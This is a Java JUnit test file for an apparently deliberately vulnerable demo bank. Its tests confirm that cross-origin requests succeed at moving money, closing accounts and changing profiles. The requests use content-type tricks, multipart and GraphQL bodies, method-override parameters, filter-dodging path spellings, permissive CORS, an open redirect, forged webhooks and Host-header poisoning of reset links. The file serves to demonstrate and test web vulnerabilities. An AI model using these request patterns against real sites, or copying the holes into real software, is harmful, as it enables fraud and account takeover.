package dev.cordon.examples.bank;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("Requests of a foreign page move money or change something")
class WriteHolesTest extends OpenBank {

  @Nested
  @DisplayName("whatever the body's type")
  class Bodies {

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource({
      "W01, application/x-www-form-urlencoded, to=mallory&amount=1000",
      "W02, text/plain, '{\"to\":\"mallory\",\"amount\":1000,\"x\":\"=\"}'",
      "W03, '', '{\"to\":\"mallory\",\"amount\":1000}'",
      "W04, TEXT/PLAIN; x=y, '{\"to\":\"mallory\",\"amount\":1000}'",
    })
    void moveMoney(String id, String type, String body) {
      String[] headers =
          type.isEmpty()
              ? new String[] {"Origin", EVIL}
              : new String[] {"Origin", EVIL, "Content-Type", type};
      assertThat(alice().post("/api/transfer", body, headers).statusCode()).isEqualTo(200);
      assertThat(lost()).as(id).isEqualTo(1000);
    }

    @Test
    @DisplayName("W03: without any body, by the query")
    void noBody() {
      alice().post("/api/transfer?" + PAY, "", "Origin", EVIL);
      assertThat(lost()).isEqualTo(1000);
    }

    @ParameterizedTest(name = "W05: multipart to {0}")
    @CsvSource({
      "/api/transfer, to, mallory, amount, 1000",
      "/graphql, operations, '{\"query\":\"mutation{transfer(to:\\\"mallory\\\",amount:1000)}\"}',"
          + " map, {}",
    })
    void multipart(String path, String a, String b, String c, String d) {
      String body = part(a, b) + part(c, d) + "--b--\r\n";
      alice().post(path, body, "Content-Type", "multipart/form-data; boundary=b", "Origin", EVIL);
      assertThat(lost()).isEqualTo(1000);
    }

    private String part(String name, String value) {
      return "--b\r\nContent-Disposition: form-data; name=\""
          + name
          + "\"\r\n\r\n"
          + value
          + "\r\n";
    }
  }

  @Nested
  @DisplayName("by methods that are thought safe")
  class Methods {

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource({"W08, GET", "W09, HEAD", "W13, OPTIONS"})
    void safeMethodsMoveMoney(String id, String method) {
      alice().send(method, "/api/quick-transfer?" + PAY, "");
      assertThat(lost()).as(id).isEqualTo(1000);
    }

    @ParameterizedTest(name = "R14: spelled {0}")
    @ValueSource(
        strings = {
          "/api/%71uick-transfer",
          "/api//quick-transfer",
          "/api%2fquick-transfer",
          "/api;x=y/quick-transfer",
          "/api/quick-transfer/"
        })
    void manySpellings(String path) {
      alice().get(path + "?" + PAY);
      assertThat(lost()).isEqualTo(1000);
    }

    @Test
    @DisplayName("W10: a GET with _method=DELETE closes an account")
    void overrideQuery() {
      alice().get("/api/users/bob?_method=DELETE");
      assertThat(bank.users()).doesNotContain("bob");
    }

    @Test
    @DisplayName("W10: a form with _method=PUT changes the profile")
    void overrideField() {
      alice().post("/api/profile", "_method=PUT&email=m@evil.example", "Content-Type", FORM);
      assertThat(bank.ledger().profile("alice", "email")).isEqualTo("m@evil.example");
    }

    @Test
    @DisplayName("W10: X-HTTP-Method-Override closes an account")
    void overrideHeader() {
      alice().post("/api/users/bob", "", "X-HTTP-Method-Override", "DELETE");
      assertThat(bank.users()).doesNotContain("bob");
    }

    @ParameterizedTest(name = "W11, W12: a preflight for {0} is granted")
    @ValueSource(strings = {"PUT", "PATCH", "DELETE"})
    void preflight(String method) {
      HttpResponse<String> answer =
          new Visitor(bank)
              .send(
                  "OPTIONS",
                  "/api/profile",
                  "",
                  "Origin",
                  EVIL,
                  "Access-Control-Request-Method",
                  method,
                  "Access-Control-Request-Headers",
                  "x-anything");
      assertThat(answer.statusCode()).isEqualTo(204);
      assertThat(answer.headers().firstValue("Access-Control-Allow-Methods")).contains(method);
      assertThat(answer.headers().firstValue("Access-Control-Allow-Headers"))
          .contains("x-anything");
      assertThat(answer.headers().firstValue("Access-Control-Allow-Credentials")).contains("true");
    }

    @ParameterizedTest(name = "W11: {0} changes the profile")
    @ValueSource(strings = {"PUT", "PATCH"})
    void unguardedMethods(String method) {
      alice().send(method, "/api/profile", "{\"email\":\"m@evil.example\"}", "Origin", EVIL);
      assertThat(bank.ledger().profile("alice", "email")).isEqualTo("m@evil.example");
    }

    @Test
    @DisplayName("W12: DELETE closes an account")
    void delete() {
      alice().send("DELETE", "/api/users/bob", "", "Origin", EVIL);
      assertThat(bank.users()).doesNotContain("bob");
    }

    @Test
    @DisplayName("W29: a GET logs out")
    void logout() {
      alice().get("/logout");
      assertThat(bank.loggedIn()).isEmpty();
    }

    @Test
    @DisplayName("W36: a GraphQL mutation runs on GET")
    void graphQlGet() {
      alice().get("/graphql?query=mutation%7Btransfer(to:%22mallory%22,amount:1000)%7D");
      assertThat(lost()).isEqualTo(1000);
    }

    @Test
    @DisplayName("W17: the open redirect leads to the GET that moves money")
    void openRedirect() {
      HttpResponse<String> answer = alice().get("/go?url=/api/quick-transfer?to=mallory");
      assertThat(answer.statusCode()).isEqualTo(303);
      assertThat(answer.headers().firstValue("Location"))
          .contains("/api/quick-transfer?to=mallory");
    }
  }

  @Nested
  @DisplayName("without the bank's cookie")
  class OtherCredentials {

    @Test
    @DisplayName("W31: by Basic credentials")
    void basic() {
      String credentials = "Basic YWxpY2U6d29uZGVybGFuZA==";
      assertThat(new Visitor(bank).get("/legacy/export").statusCode()).isEqualTo(401);
      new Visitor(bank)
          .post("/legacy/export", PAY, "Authorization", credentials, "Content-Type", FORM);
      assertThat(lost()).isEqualTo(1000);
    }

    @Test
    @DisplayName("W37: by being on this machine")
    void loopback() {
      new Visitor(bank).post("/internal/flags", "{\"flag\":\"debug\"}", "Origin", EVIL);
      assertThat(bank.flags()).containsExactly("debug");
    }

    @Test
    @DisplayName("W35: a webhook needs its signature, or, by mistake, a cookie")
    void webhook() {
      assertThat(new Visitor(bank).post("/webhooks/stripe", "event=paid").statusCode())
          .isEqualTo(401);
      new Visitor(bank)
          .post("/webhooks/stripe", "event=paid", "Stripe-Signature", Backdoors.WEBHOOK_SIGNATURE);
      assertThat(bank.webhooks()).containsExactly("paid");
      alice().post("/webhooks/stripe", "event=forged", "Origin", EVIL);
      assertThat(bank.webhooks()).containsExactly("paid", "forged");
    }

    @Test
    @DisplayName("H04: the password mail links to whatever X-Forwarded-Host says")
    void forwardedHost() {
      new Visitor(bank)
          .post("/forgot-password", "user=alice", "X-Forwarded-Host", "evil.localhost");
      assertThat(bank.mails())
          .singleElement()
          .extracting(Mail::link)
          .asString()
          .startsWith("http://evil.localhost/reset-password?ticket=");
    }
  }
}
